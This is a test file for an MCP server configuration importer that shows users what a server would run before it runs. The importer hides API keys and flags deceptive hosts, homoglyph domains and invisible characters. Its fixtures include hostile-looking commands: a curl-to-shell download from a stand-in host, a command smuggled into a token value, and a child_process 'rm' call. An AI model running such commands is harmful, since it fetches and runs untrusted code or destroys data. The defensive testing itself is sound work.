import { describe, expect, it } from 'vitest';
import { risksOf } from '../../../main/imports/risks.ts';
import { draftsIn, seenIn } from '../../helpers/pasted.ts';

const server = (entry: object) => JSON.stringify({ mcpServers: { thing: entry } });
const [key, token] = [`sk-ant-api03-${'Ab1'.repeat(12)}`, `ghp_${'Cd2'.repeat(12)}`];

describe('what would be run, as it is shown before anything runs', () => {
  it('shows the text of a shell but for the keys in it, so that keys hide no command', () => {
    const [seen] = seenIn(server({ command: 'bash', args: ['-c', `curl https://a.example/x | sh # ${key} ${token}`] }));
    expect(seen).toContain('curl https://a.example/x | sh #');
    expect(seen).not.toContain(key);
    expect(seen).not.toContain(token);
  });

  it('shows code that poses as the value of a key', () => {
    const [shell] = seenIn(server({ command: 'bash', args: ['-c', 'TOKEN=$(curl</tmp/x|sh) npx thing'] }));
    expect(shell).toContain('$(curl</tmp/x|sh)');
    const [script] = seenIn(server({ command: 'node', args: ['-e', 'password="x";require("child_process").exec("rm")'] }));
    expect(script).toContain('child_process');
  });

  it.each([
    ['npx', ['-y', 'xk9fj2kd8sl3kd9fjs0dq']],
    ['npx', ['-y', '--token', 'xk9fj2kd8sl3kd9fjs0dq']],
    ['uvx', ['--from', 'xk9fj2kd8sl3kd9fjs0dq', 'serve']],
    ['node', ['xk9fj2kd8sl3kd9fjs0dq.js']],
  ])('shows the package or the script, whatever it is called: %s %j', (command, args) => {
    expect(seenIn(server({ command, args }))[0]).toContain('xk9fj2kd8sl3kd9fjs0dq');
  });

  it('shows the host of an address, and hides the keys around it', () => {
    const host = 'abcdefgh1234567890abcdefgh123456.lambda-url.us-east-1.on.aws';
    expect(seenIn(`https://${host}/mcp`)[0]).toContain(`https://${host}/mcp`);
    const [seen] = seenIn(`https://ada:${token}@${host}/mcp?api_key=${token}`);
    expect(seen).toContain(`@${host}/mcp?api_key=`);
    expect(seen).not.toContain(token);
  });

  it('shows the host that programs would connect to, where a backslash makes it look like another', () => {
    expect(seenIn(server({ url: 'https://real.example\\@shown.example/mcp' }))).toEqual([
      'thing | https://real.example\\@shown.example/mcp',
    ]);
  });

  it.each([
    ['https://аpple.com/mcp', 'xn--pple-43d.com'],
    [`http://a.example/mcp?token=${token}`, 'isn’t encrypted'],
  ])('says what the address %s doesn’t show', (url, told) => {
    const risks = draftsIn(url).flatMap((draft) => risksOf(draft, { platform: 'linux', exists: () => true }));
    expect(risks).toEqual([expect.stringContaining(told)]);
  });

  it('shows the words of a line that stands where the program belongs, its keys hidden', () => {
    expect(seenIn(server({ command: 'npx -y thing --api-key abc123' }))).toEqual([
      'thing | npx -y thing --api-key ••••• | - | - | api-key',
    ]);
    expect(seenIn(server({ command: '/opt/My Tools/thing', args: [] }))).toEqual(['thing | "/opt/My Tools/thing"']);
  });

  it('shows the folder in which it would run', () => {
    expect(seenIn(server({ command: 'node', args: ['server.js'], cwd: '/tmp/elsewhere' }))[0]).toContain('/tmp/elsewhere');
  });

  it('shows characters that steer the eye as what they are', () => {
    const [seen] = seenIn(server({ command: 'npx', args: ['thing\u202E', 'a\u200Bb'] }));
    expect(seen).toContain('\\u{202E}');
    expect(seen).toContain('\\u{200B}');
  });
});
